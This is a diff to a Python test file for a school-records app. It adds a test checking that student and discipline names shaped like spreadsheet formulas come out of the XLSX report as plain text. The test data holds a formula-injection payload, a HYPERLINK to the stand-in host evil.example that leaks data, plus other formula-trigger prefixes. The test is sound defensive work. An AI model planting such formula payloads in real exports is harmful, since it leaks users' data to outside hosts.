@@ -23,7 +23,7 @@ from sqlalchemy import select, update
 from core import migrate
 from core.calendar.models import AcademicYear
 from core.extensions import db
-from core.people.models import Group, Guardian, StudentGuardian, SubjectCommission
+from core.people.models import Group, Guardian, Student, StudentGuardian, SubjectCommission
 from core.people.roles import Role
 from core.plugins import hook
 from core.plugins.types import REPORT_PARAMS
@@ -201,6 +201,34 @@ def test_user_text_prints_as_text(app, world):
     printed = pdf_text(admin.get(f"/reports/jobs/{job_id}/file").data)
     assert hostile in printed and "root:" not in printed
     assert "Журнал учебных занятий" in printed and "Петров А. И." in printed
+
+
+HOSTILE_DISCIPLINE = '=HYPERLINK("http://evil.example/?leak","Алгоритмизация")'
+
+
+def test_user_text_in_xlsx_is_text_not_a_formula(app, world):
+    """A discipline or a student named like a formula comes out as text with a leading «'»;
+    the numbers of the report stay numbers."""
+    with_finals(app, world)
+    names = ["+1", "-2", "@SUM(A1)", "\t=1"]
+    with app.app_context():
+        db.session.execute(update(Discipline).where(Discipline.id == world.ids["discipline"])
+                           .values(code="", name=HOSTILE_DISCIPLINE, short_name=HOSTILE_DISCIPLINE))
+        for student_id, name in zip(world.students, names, strict=True):
+            db.session.execute(update(Student).where(Student.id == student_id)
+                               .values(last_name=name))
+        db.session.commit()
+    admin = signed_in(app, world.users["admin"])
+    content = admin.get("/reports/grading.progress/file.xlsx",
+                        query_string={"group": world.ids["g1"], **period(world)}).data
+    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows()
+             for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [cell.value for cell in cells if cell.data_type == "s"]
+    assert "'" + HOSTILE_DISCIPLINE in texts
+    assert any(text.startswith("'+1 ") for text in texts)
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(cell.data_type == "n" and cell.value == 50 for cell in cells)  # a percentage
 
 
 def test_xhtml2pdf_reads_only_the_packages_fonts(caplog):
